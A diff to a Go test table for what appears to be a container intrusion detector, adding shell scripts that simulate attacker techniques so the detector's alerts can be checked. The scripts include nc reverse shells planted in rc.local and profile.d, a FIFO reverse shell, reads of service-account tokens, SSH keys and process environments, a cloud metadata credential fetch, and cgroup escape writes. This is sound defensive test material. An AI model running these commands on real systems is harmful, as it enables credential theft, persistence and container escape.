@@ -65,6 +65,41 @@ var shellCases = []coverageCase{
 	{mode: "sh-login", code: CodeLoginShell, pause: true, script: "echo 'www:x:33:33::/:/bin/sh' >> /etc/passwd && su -s /bin/sh www -c 'sh -l -c true'"},
 	{mode: "sh-symlinkover", code: CodeSensitiveLink, pause: true, script: "ln -s /etc/shadow /data/shadow-link"},
 	{mode: "sh-decode", code: CodeExecDecode, script: "echo aWQK | base64 -d | sh"},
+	// The held-out audit's classes (design 028): what the issue-10 cases
+	// did not cover, each as an intruder with a shell would do it.
+	// Download and execute: a file written, made executable, run.
+	{mode: "sh-dropexec", code: CodeExecDrift, pause: true, script: "cat /bin/busybox > /data/dl && chmod +x /data/dl && /data/dl sleep 1000000"},
+	{mode: "sh-dropscript", code: CodeExecDrift, pause: true, script: "printf '#!/bin/sh\\nsleep 1000000\\n' > /data/run.sh && chmod 755 /data/run.sh && /data/run.sh"},
+	// Credential access variants.
+	{mode: "sh-satoken", code: CodeReadSensitive, pause: true, script: "d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d && echo t > $d/token; sleep 1; cat $d/token"},
+	{mode: "sh-dockercfg", code: CodeReadSensitive, pause: true, script: "mkdir -p /root/.docker && echo {} > /root/.docker/config.json; sleep 1; cat /root/.docker/config.json"},
+	{mode: "sh-homekey", code: CodeReadSensitive, pause: true, script: "mkdir -p /home/app/.ssh && echo k > /home/app/.ssh/id_ed25519; sleep 1; cat /home/app/.ssh/id_ed25519"},
+	{mode: "sh-environscan", code: CodeReadSensitive, pause: true, script: "for p in /proc/[0-9]*; do cat $p/environ; done"},
+	{mode: "sh-metadata", code: CodeCloudMetadata, pause: true, script: "wget -q -T 1 -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
+	// Discovery: a process list read through /proc and ps (an applet the
+	// image never ran: exec.unseen; the reads of cmdline are not seen).
+	{mode: "sh-pscan", code: CodeExecUnseen, pause: true, script: "for p in /proc/[0-9]*; do cat $p/cmdline; done; ps"},
+	// Persistence variants.
+	{mode: "sh-rclocal", code: CodeCronPersist, pause: true, script: "echo 'nc 10.0.0.1 4444 -e /bin/sh &' >> /etc/rc.local"},
+	{mode: "sh-profiled", code: CodeShellConfig, pause: true, script: "mkdir -p /etc/profile.d && echo 'nc 10.0.0.1 4444 -e /bin/sh &' > /etc/profile.d/x.sh"},
+	{mode: "sh-homeauthkeys", code: CodeSSHPersist, pause: true, script: "mkdir -p /home/app/.ssh && echo ssh-ed25519 AAAA >> /home/app/.ssh/authorized_keys"},
+	// Escapes from a shell.
+	{mode: "sh-corepattern", code: CodeCgroupEscape, pause: true, script: "echo '|/data/x' > /proc/sys/kernel/core_pattern"},
+	{mode: "sh-releaseagent", code: CodeCgroupEscape, pause: true, script: "mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; echo /data/x > /tmp/cg/release_agent"},
+	{mode: "sh-mountdev", code: CodeMount, pause: true, script: "mknod /data/sda b 8 0; mkdir -p /mnt; mount /data/sda /mnt"},
+	// Impact: files encrypted and renamed away.
+	{mode: "sh-encrypt", code: CodeBulkDelete, pause: true, script: "mkdir -p /data/r && for i in $(seq 1 60); do echo x > /data/r/$i.doc; done && for f in /data/r/*; do mv $f $f.locked; done"},
+	// Defense evasion: timestamps copied (touch never ran: exec.unseen),
+	// the shell renamed like a kernel thread through /proc/self/comm.
+	{mode: "sh-timestomp", code: CodeExecUnseen, pause: true, script: "touch -r /bin/busybox /data/state"},
+	{mode: "sh-comm", code: CodeMasquerade, pause: true, script: "echo -n kworker/0:2 > /proc/self/comm; cat /etc/hostname"},
+	// Lateral movement: the orchestrator's CLI, ssh to a peer (busybox
+	// has neither: symlinks to it carry the names).
+	{mode: "sh-kubectl", code: CodeContainerAdmin, pause: true, script: "ln -s /bin/busybox /data/kubectl && /data/kubectl get secrets"},
+	{mode: "sh-ssh", code: CodeExecTool, script: "ln -s /bin/busybox /data/ssh && /data/ssh root@10.255.255.1"},
+	// A reverse shell relayed through a FIFO: no socket on the shell's
+	// stdio.
+	{mode: "sh-fiforevshell", code: CodeReverseShell, pause: true, hostNet: true, script: "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 revshellPort > /tmp/f"},
 }
 
 // benignScript is what the shell image does while it learns and in the
